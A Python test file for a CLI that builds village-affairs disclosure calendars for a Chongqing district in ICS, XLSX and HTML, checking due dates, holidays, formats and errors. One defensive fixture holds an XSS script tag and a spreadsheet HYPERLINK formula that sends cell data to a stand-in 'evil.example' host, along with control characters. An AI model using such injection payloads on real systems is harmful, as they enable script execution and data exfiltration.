"""`zwgk calendar`: the 村（居）务公开 postings of a year, due on each period's last working day."""

from __future__ import annotations

import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import chinese_calendar
from icalendar import Calendar
from typer.testing import CliRunner

from conftest import ROOT, Golden, build_case
from xlsx_dump import dump_workbook
from zwgk_cli.calendar.plan import build_plan, periods
from zwgk_cli.check.pipeline import check_catalogue
from zwgk_cli.cli.app import app
from zwgk_cli.core.towns import find_unit, unit_catalogue, village_level
from zwgk_cli.core.workdays import covered_years

runner = CliRunner()
SHIPPED = ROOT / "catalogues"
GOLDEN = ROOT / "tests" / "golden" / "calendar"
ITEM_LINE = re.compile(r"^\d+\. ([a-z0-9-]+) ", re.MULTILINE)


def run(*args: str) -> tuple[int, bytes, str]:
    result = runner.invoke(app, ["calendar", *args])
    return result.exit_code, result.stdout_bytes, result.stderr


def shipped_ics() -> bytes:
    code, out, err = run(str(SHIPPED), "--year", "2021", "--unit", "龙溪街道", "--format", "ics")
    assert code == 0, err
    return out


def events(data: bytes) -> list[tuple[date, set[str], str]]:
    """(day, item ids, summary) of each VEVENT."""
    found = []
    for event in Calendar.from_ical(data).walk("VEVENT"):
        day = event.decoded("dtstart")
        assert type(day) is date  # an all-day event
        ids = set(ITEM_LINE.findall(str(event["description"])))
        found.append((day, ids, str(event["summary"])))
    return found


def longxi_items(frequency: str) -> set[str]:
    """The ids of 龙溪街道's 村（居）-level items published at `frequency`, from the catalogue itself."""
    result = check_catalogue(SHIPPED)
    assert result.catalogue is not None
    settings = result.catalogue.settings
    unit = find_unit(settings, "龙溪街道")
    assert unit is not None
    level = village_level(settings.levels)
    local = unit_catalogue(result.catalogue, unit)
    return {i.id for d in local.domains for i in d.items if level in i.levels and i.frequency == frequency}


def last_working_day(first: date, last: date) -> date:
    """The oracle, straight from chinese_calendar: the last day of the range that is a working day."""
    day = last
    while not chinese_calendar.is_workday(day):
        day -= timedelta(days=1)
    assert day >= first
    return day


def month_ends(year: int, months: range) -> list[tuple[date, date]]:
    ranges = []
    for month in months:
        first = date(year, month, 1)
        following = date(year + (month == 12), month % 12 + 1, 1)
        ranges.append((first, following - timedelta(days=1)))
    return ranges


# ---- the shipped catalogue, 龙溪街道, 2021 ---------------------------------------------------------


def test_monthly_and_quarterly_items_fall_on_each_periods_last_working_day() -> None:
    monthly, quarterly = longxi_items("每月"), longxi_items("每季度")
    assert monthly == {"shjz-013"}  # the 低保 dynamic list, every month
    assert {"ylfw-014", "ylfw-015", "fp-015", "zdbc-015"} <= quarterly
    found = events(shipped_ics())
    monthly_days = [day for day, ids, _ in found if monthly <= ids]
    quarterly_days = [day for day, ids, _ in found if quarterly <= ids]
    assert monthly_days == [last_working_day(a, b) for a, b in month_ends(2021, range(1, 13))]
    quarter_ranges = [
        (date(2021, m - 2, 1), b)
        for m, (_, b) in zip((3, 6, 9, 12), month_ends(2021, range(3, 13, 3)), strict=True)
    ]
    assert quarterly_days == [last_working_day(a, b) for a, b in quarter_ranges]
    # the yearly items (招生范围, 城乡居民社会保险费缴费指南) close with December, on its last working day
    yearly = longxi_items("每年")
    assert yearly == {"ywjy-012", "ssgl-012"}
    assert [day for day, ids, _ in found if yearly <= ids] == [date(2021, 12, 31)]
    # nothing else is dated: one event per due day, every one a working day
    assert len(found) == 12
    assert all(ids <= monthly | quarterly | yearly for _, ids, _ in found)
    assert all(chinese_calendar.is_workday(day) for day, _, _ in found)


def test_pinned_due_days_around_weekends_and_the_holiday_breaks() -> None:
    days = {day for day, _, _ in events(shipped_ics())}
    assert date(2021, 1, 29) in days  # the 31st is a Sunday, the 30th a Saturday
    assert date(2021, 2, 26) in days  # after 春节 (11–17 February); the 28th is a Sunday
    assert date(2021, 4, 30) in days  # the last day before the 劳动节 break (1–5 May)
    assert date(2021, 9, 30) in days  # the last day before 国庆 (1–7 October): Q3 and September
    assert date(2021, 10, 29) in days  # the 31st is a Sunday
    assert date(2021, 1, 31) not in days


def test_one_day_closing_several_periods_is_one_event_naming_them_all() -> None:
    by_day = {day: (ids, summary) for day, ids, summary in events(shipped_ics())}
    ids, summary = by_day[date(2021, 3, 31)]
    count = 1 + len(longxi_items("每季度"))
    assert summary == f"龙溪街道 · 2021年3月、2021年第一季度 村（居）务公开（{count} 项）"
    assert len(ids) == count
    assert by_day[date(2021, 4, 30)][1] == "龙溪街道 · 2021年4月 村（居）务公开（1 项）"


def test_the_calendar_is_fit_for_a_phone_subscription() -> None:
    data = shipped_ics()
    book = Calendar.from_ical(data)
    assert str(book["x-wr-calname"]) == "龙溪街道 2021年村（居）务公开"
    assert str(book["version"]) == "2.0"
    assert data.endswith(b"END:VCALENDAR\r\n")
    lines = data.split(b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")  # CRLF only
    assert max(len(line) for line in lines) <= 75  # folded as RFC 5545 asks
    uids = [str(event["uid"]) for event in book.walk("VEVENT")]
    assert len(set(uids)) == len(uids)
    assert all(uid.endswith("@zwgk") for uid in uids)
    for event in book.walk("VEVENT"):
        assert event.decoded("dtstamp").isoformat() == "2021-01-01T00:00:00+00:00"
        assert event.decoded("dtend") == event.decoded("dtstart") + timedelta(days=1)
        (alarm,) = event.walk("VALARM")
        assert alarm.decoded("trigger") == timedelta(days=-3, hours=9)  # 09:00 three days before
        description = str(event["description"])
        assert "公开渠道：" in description
        assert "公开内容：" in description
        assert "须公布的村（社区）：各村（社区）" in description


def test_same_inputs_give_the_same_bytes(tmp_path: Path) -> None:
    assert shipped_ics() == shipped_ics()
    for fmt in ("xlsx", "html"):
        outputs = []
        for name in ("a", "b"):
            path = tmp_path / f"{name}.{fmt}"
            code, _, err = run(
                str(SHIPPED), "--year", "2021", "--unit", "longxi", "--format", fmt, "-o", str(path)
            )
            assert code == 0, err
            assert "已写入" in err
            assert "龙溪街道 2021 年" in err
            outputs.append(path.read_bytes())
        assert outputs[0] == outputs[1], fmt


def test_every_town_in_scope_without_unit() -> None:
    code, out, err = run(str(SHIPPED), "--year", "2021")
    assert code == 0, err
    book = Calendar.from_ical(out)
    assert str(book["x-wr-calname"]) == "重庆市渝北区 2021年村（居）务公开"
    summaries = [str(e["summary"]) for e in book.walk("VEVENT")]
    assert len(summaries) == 22 * 12  # 11 towns and 11 streets in scope, 12 due days each
    assert not any("鸳鸯街道" in s for s in summaries)  # 两江新区直管区代管: outside


# ---- the due-day rule on its own --------------------------------------------------------------


def test_periods_of_each_frequency() -> None:
    assert [p.due for p in periods("每季度", 2023)][2] == date(2023, 9, 28)  # 中秋 and 国庆 from the 29th
    assert [p.due for p in periods("每季度", 2017)][2] == date(2017, 9, 30)  # a Saturday worked before 国庆
    assert periods("每月", 2025)[0].due == date(2025, 1, 27)  # 春节 from 28 January
    halves = periods("每半年", 2021)
    assert [(p.first, p.last, p.due) for p in halves] == [
        (date(2021, 1, 1), date(2021, 6, 30), date(2021, 6, 30)),
        (date(2021, 7, 1), date(2021, 12, 31), date(2021, 12, 31)),
    ]
    (whole,) = periods("每年", 2022)
    assert (whole.first, whole.last, whole.due) == (date(2022, 1, 1), date(2022, 12, 31), date(2022, 12, 30))
    for frequency in ("每月", "每季度", "每半年", "每年"):
        for period in periods(frequency, 2024):
            assert period.first <= period.due <= period.last
            assert period.due == last_working_day(period.first, period.last)


# ---- what stops it ------------------------------------------------------------------------------


def test_a_year_without_holiday_data_is_refused_naming_the_covered_years() -> None:
    years = covered_years()
    code, out, err = run(str(SHIPPED), "--year", str(years[-1] + 1))
    assert code == 2
    assert out == b""
    assert f"没有 {years[-1] + 1} 年的法定节假日和调休安排数据" in err
    assert f"{years[0]}—{years[-1]} 年" in err
    code, _, err = run(str(SHIPPED), "--year", "1999", "--lang", "en")
    assert code == 2
    assert "holiday schedule of 1999 is not known" in err


def test_unknown_and_outside_units_stop_as_build_does() -> None:
    code, _, err = run(str(SHIPPED), "--year", "2021", "--unit", "不存在街道")
    assert code == 2
    assert "单位名录中没有镇街“不存在街道”" in err
    code, _, err = run(str(SHIPPED), "--year", "2021", "--unit", "鸳鸯街道")
    assert code == 2
    assert "鸳鸯街道办事处不在本目录范围" in err


def test_xlsx_needs_an_output_file() -> None:
    code, out, err = run(str(SHIPPED), "--year", "2021", "--format", "xlsx")
    assert code == 2
    assert out == b""
    assert "--format xlsx 要写工作簿文件，请用 -o 指定输出文件" in err


def test_a_catalogue_with_errors_or_no_village_level_is_refused(tmp_path: Path) -> None:
    (tmp_path / "none").mkdir()
    plain = build_case(tmp_path / "none", tmp_path / "plain")  # levels 区级, 镇街
    code, _, err = run(str(plain), "--year", "2021")
    assert code == 2
    assert "没有村（居）层级" in err
    broken = village_case(tmp_path / "broken")
    path = broken / "shjz.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("mode: [主动]", "mode: [主动公开]", 1), encoding="utf-8"
    )
    code, _, err = run(str(broken), "--year", "2021")
    assert code == 2
    assert "目录有 1 个错误，无法排日历" in err


# ---- a small case with registered villages ------------------------------------------------------

VILLAGES = """\
  - {name: 各村（居）民委员会, slug: cjmwyh, kind: 其他}
  - {name: 测试甲村民委员会, slug: ceshi-jia, kind: 村民委员会, parent: 龙溪街道办事处}
  - {name: 测试乙居民委员会, slug: ceshi-yi, kind: 居民委员会, parent: 龙溪街道办事处}
  - {name: 测试丙村民委员会, slug: ceshi-bing, kind: 村民委员会, parent: 洛碛镇人民政府}
"""

ITEMS = {
    "shjz-101": ("每月", "村级财务", "财务收支情况", "[收入明细, 支出明细]"),
    "shjz-102": ("每季度", "低保", "低保对象名单", "[户主姓名, 保障人数]"),
    "shjz-103": ("每半年", "临时救助", "救助对象名单", "[救助对象, 救助金额]"),
    "shjz-104": ("每年", "特困供养", "年度审核结果", "[供养对象, 供养形式]"),
    "shjz-105": ("实时", "医疗救助", "救助结果", "[救助对象, 救助金额]"),
    "shjz-106": (None, "就业救助", "救助结果", "[]"),
}


HOSTILE_ITEM = """\
  - id: shjz-107
    category: "<script>alert(1)</script>"
    name: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    content: ["响铃\\a 反向\\u202E", "+1+1"]
    basis: [《社会救助暂行办法》（国务院令第649号）]
    time_limit: 信息形成之日起10个工作日内
    subject: {镇街: 各镇人民政府（街道办事处）, 村（居）: 各村（居）民委员会}
    channels: [社区/企事业单位/村公示栏（电子屏）]
    audience: [全社会]
    mode: [主动]
    levels: [镇街, 村（居）]
    frequency: 每月
"""
SCRIPT = "<script>alert(1)</script>"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def village_case(target: Path, *, hostile: bool = False) -> Path:
    """The base case with a 村（居） level, three made-up villages under its two towns, and an item
    of each frequency at that level (and one of hostile texts, with `hostile`)."""
    empty = target / "case"
    empty.mkdir(parents=True)
    folder = build_case(empty, target)
    settings = folder / "zwgk.yaml"
    text = settings.read_text(encoding="utf-8")
    text = text.replace("levels: [区级, 镇街]", "levels: [区级, 镇街, 村（居）]", 1)
    text = text.replace("groups:\n", VILLAGES + "groups:\n", 1)
    settings.write_text(text, encoding="utf-8")
    items = []
    for ident, (frequency, category, name, content) in ITEMS.items():
        items.append(
            f"  - id: {ident}\n"
            f"    category: {category}\n"
            f"    name: {name}\n"
            f"    content: {content}\n"
            "    basis: [《社会救助暂行办法》（国务院令第649号）]\n"
            "    time_limit: 信息形成之日起10个工作日内\n"
            "    subject: {镇街: 各镇人民政府（街道办事处）, 村（居）: 各村（居）民委员会}\n"
            "    channels: [社区/企事业单位/村公示栏（电子屏）]\n"
            "    audience: [全社会]\n"
            "    mode: [主动]\n"
            "    levels: [镇街, 村（居）]\n" + (f"    frequency: {frequency}\n" if frequency else "")
        )
    domain = folder / "shjz.yaml"
    if hostile:
        items.append(HOSTILE_ITEM)
    domain.write_text(domain.read_text(encoding="utf-8") + "".join(items), encoding="utf-8")
    result = check_catalogue(folder)
    assert result.ok, [d.message.zh for d in result.diagnostics if d.severity == "error"]
    return folder


def test_each_registered_village_gets_a_tick_column(tmp_path: Path, golden: Golden) -> None:
    folder = village_case(tmp_path)
    out = tmp_path / "calendar.xlsx"
    code, _, err = run(str(folder), "--year", "2021", "--format", "xlsx", "-o", str(out))
    assert code == 0, err
    text = dump_workbook(out.read_bytes())
    golden(GOLDEN / "villages-2021.xlsx.txt", text)
    from openpyxl import load_workbook

    book = load_workbook(out)
    assert book.sheetnames == ["龙溪街道", "洛碛镇", "随时公布", "未写明公开频次"]
    heads = [c.value for c in book["龙溪街道"][2]]
    assert heads[7:] == ["测试甲村民委员会", "测试乙居民委员会"]
    assert [c.value for c in book["洛碛镇"][2]][7:] == ["测试丙村民委员会"]
    due = [row[0].value.date() for row in book["龙溪街道"].iter_rows(min_row=3) if row[2].value]
    assert len(due) == 12 + 4 + 2 + 1
    assert due == sorted(due)
    assert due[-4:] == [date(2021, 12, 31)] * 4  # December, Q4, H2 and the year close together
    texts = [c for row in book["龙溪街道"].iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)


def test_the_printed_checklist_has_a_page_per_village(tmp_path: Path, golden: Golden) -> None:
    folder = village_case(tmp_path)
    code, out, err = run(str(folder), "--year", "2021", "--format", "html")
    assert code == 0, err
    page = out.decode("utf-8")
    golden(GOLDEN / "villages-2021.html", page)
    assert page.count('<section class="village">') == 3
    for village in ("测试甲村民委员会", "测试乙居民委员会", "测试丙村民委员会"):
        assert f"<h1>{village} 2021年村（居）务公开清单</h1>" in page
    assert "page-break-after: always" in page
    assert "<script" not in page
    assert page.count('<span class="box"></span>') == 3 * 19  # 19 postings a village


def test_the_calendar_names_the_villages_and_speaks_english(tmp_path: Path) -> None:
    folder = village_case(tmp_path)
    code, out, err = run(str(folder), "--year", "2021", "--unit", "洛碛镇", "--lang", "en")
    assert code == 0, err
    book = Calendar.from_ical(out)
    assert str(book["x-wr-calname"]) == "洛碛镇 village affairs 2021"
    found = {e.decoded("dtstart"): e for e in book.walk("VEVENT")}
    december = found[date(2021, 12, 31)]
    assert (
        str(december["summary"])
        == "洛碛镇 · 2021-12, Q4 2021, H2 2021, year 2021 village affairs postings (4 items)"
    )
    assert "Villages and communities: 测试丙村民委员会" in str(december["description"])
    code, out, _ = run(str(folder), "--year", "2021", "--unit", "洛碛镇", "--format", "html", "--lang", "en")
    assert code == 0
    assert '<html lang="en">' in out.decode("utf-8")


def test_plan_lists_undated_items_apart(tmp_path: Path) -> None:
    result = check_catalogue(village_case(tmp_path))
    assert result.catalogue is not None
    plan = build_plan(result.catalogue, 2021, "龙溪街道")
    (town,) = plan.towns
    assert [e.id for e in town.ongoing] == ["shjz-105"]
    assert [e.id for e in town.unspecified] == ["shjz-106"]
    assert town.villages == ["测试甲村民委员会", "测试乙居民委员会"]


# ---- hostile text, valid pages ------------------------------------------------------------------


def test_hostile_text_stays_text_in_every_format(tmp_path: Path) -> None:
    folder = village_case(tmp_path, hostile=True)
    code, out, err = run(str(folder), "--year", "2021", "--unit", "龙溪街道", "--format", "html")
    assert code == 0, err
    page = out.decode("utf-8")
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "\a" not in page
    assert "\u202e" not in page
    assert "响铃[U+0007] 反向[U+202E]" in page
    code, out, err = run(str(folder), "--year", "2021", "--unit", "龙溪街道")
    assert code == 0, err
    assert b"\x07" not in out
    assert "\u202e".encode() not in out
    descriptions = [str(e["description"]) for e in Calendar.from_ical(out).walk("VEVENT")]
    assert all("响铃[U+0007] 反向[U+202E]" in d for d in descriptions)
    book_path = tmp_path / "hostile.xlsx"
    code, _, err = run(
        str(folder), "--year", "2021", "--unit", "龙溪街道", "--format", "xlsx", "-o", str(book_path)
    )
    assert code == 0, err
    with zipfile.ZipFile(book_path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    from openpyxl import load_workbook

    cells = {
        cell.value: cell
        for sheet in load_workbook(book_path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (SCRIPT, LINK, "响铃[U+0007] 反向[U+202E]、+1+1"):
        assert cells[text].data_type == "s", text


def test_the_page_is_valid_html(tmp_path: Path) -> None:
    from test_html_validity import vnu_problems

    folder = village_case(tmp_path, hostile=True)
    pages = []
    for lang in ("zh", "en"):
        path = tmp_path / f"calendar-{lang}.html"
        code, _, err = run(str(folder), "--year", "2021", "--format", "html", "-o", str(path), "--lang", lang)
        assert code == 0, err
        pages.append(path)
    assert vnu_problems(pages) == []
